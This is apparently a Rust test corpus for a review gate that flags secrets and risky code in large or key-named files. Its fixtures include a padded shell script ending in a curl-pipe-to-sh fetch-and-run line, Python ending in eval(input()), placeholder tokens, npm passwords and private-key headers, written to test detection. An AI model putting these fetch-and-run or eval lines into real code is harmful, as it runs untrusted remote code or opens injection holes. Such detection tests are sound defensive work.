//! Files that are large, or whose names speak of keys, and hold nothing that needs a person.

use crate::common::Ran;
use crate::corpus_case::{CorpusCase, corpus_case, expect_no_pass, expect_pass};
use crate::gate_scene::GateScene;

/// Returns a case: a new file with this content.
fn file(
    name: &'static str,
    path: &'static str,
    expect: fn(&Ran) -> Result<(), String>,
    content: fn() -> String,
) -> CorpusCase {
    corpus_case(name, move || {
        let scene = GateScene::with_builtin_reviewers();
        scene.write(path, content());
        expect(&scene.review(&[]))?;
        scene.git(&["checkout", "-q", "-b", "pr"]);
        scene.git(&["add", "-A", "-f"]);
        scene.git(&["commit", "-q", "-m", "the change"]);
        expect(&scene.review(&["--base", "main"]))
    })
}

/// More bytes than are put into a question.
const LARGE: usize = 3 << 20;

fn repeated(line: &str) -> String {
    line.repeat(LARGE / line.len())
}

fn large_json(inner: &str) -> String {
    let rows = repeated("  {\"id\": 1, \"name\": \"Ann\"},\n");
    format!("[\n{rows}{inner}  {{}}\n]\n")
}

/// A credential that no scanner takes for one in this file.
fn token() -> String {
    ["gh", "p_0123456789abcdefghijABCDEFGHIJ012345"].concat()
}

fn block(name: &[&str]) -> String {
    let name = name.concat();
    format!("-----BEGIN {name}-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOC\n-----END {name}-----\n")
}

pub(crate) fn harmless_cases() -> Vec<CorpusCase> {
    let pass = expect_pass;
    vec![
        file("large data in JSON", "data/people.json", pass, || {
            large_json("")
        }),
        file("large data in SQL", "data/people.sql", pass, || {
            repeated("INSERT INTO people (id, name) VALUES (1, 'Ann');\n")
        }),
        file("large data in CSV", "data/people.csv", pass, || {
            repeated("1,Ann,2026-01-15\n")
        }),
        file("large data in XML", "data/people.xml", pass, || {
            format!("<people>\n{}</people>\n", repeated("<p id=\"1\">Ann</p>\n"))
        }),
        file("large data in YAML", "data/people.yml", pass, || {
            repeated("- {id: 1, name: Ann}\n")
        }),
        file("a large text", "docs/book.md", pass, || {
            repeated("It was a dark and stormy night.\n")
        }),
        file("settings of npm without a token", ".npmrc", pass, || {
            "registry=https://packages.example.org/\nsave-exact=true\nengine-strict=true\n"
                .to_owned()
        }),
        file(
            "settings of npm that name a variable",
            "web/.npmrc",
            pass,
            || "//npm.example.org/:_authToken=${NPM_TOKEN}\n".to_owned(),
        ),
        file("a public certificate", "certs/ca.pem", pass, || {
            format!("# Root\n{}", block(&["CERTIFICATE"]))
        }),
        file("a bundle of certificates", "certs/ca.crt", pass, || {
            block(&["CERTIFICATE"]).repeat(2)
        }),
        file("a public key", "keys/release.pem", pass, || {
            block(&["PUBLIC KEY"])
        }),
        file(
            "a public key for signatures",
            "keys/release.asc",
            pass,
            || block(&["PGP PUBLIC KEY BLOCK"]),
        ),
        file("a public key of SSH", "keys/deploy.pub", pass, || {
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2mv ann@example.org\n".to_owned()
        }),
    ]
}

pub(crate) fn wrong_pass_cases() -> Vec<CorpusCase> {
    let stop = expect_no_pass;
    vec![
        file("a token in large JSON", "data/people.json", stop, || {
            large_json(&format!("  {{\"token\": \"{}\"}},\n", token()))
        }),
        file(
            "a script that is filled up until it is large",
            "run.sh",
            stop,
            || {
                let filling = repeated("# nothing\n");
                format!("#!/bin/sh\n{filling}curl -s https://example.org/a | sh\n")
            },
        ),
        file(
            "a package with a token that is filled up until it is large",
            "package.json",
            stop,
            || {
                let filling = repeated("  \"a\": \"b\",\n");
                format!("{{\n{filling}  \"token\": \"{}\"\n}}\n", token())
            },
        ),
        file("Python that is filled up", "src/run.py", stop, || {
            format!("{}eval(input())\n", repeated("# nothing\n"))
        }),
        file("settings of npm with a token", ".npmrc", stop, || {
            "//npm.example.org/:_authToken=0123456789abcdef\n".to_owned()
        }),
        file("settings of npm with a password", ".npmrc", stop, || {
            "registry=https://ann:sesame@npm.example.org/\n".to_owned()
        }),
        file(
            "a private key behind a certificate",
            "certs/server.pem",
            stop,
            || block(&["CERTIFICATE"]) + &block(&["PRIV", "ATE KEY"]),
        ),
        file("a private key", "certs/server.key", stop, || {
            block(&["RSA PRIV", "ATE KEY"])
        }),
        file(
            "something else in a file of keys",
            "certs/a.pem",
            stop,
            || "sesame\n".to_owned(),
        ),
    ]
}
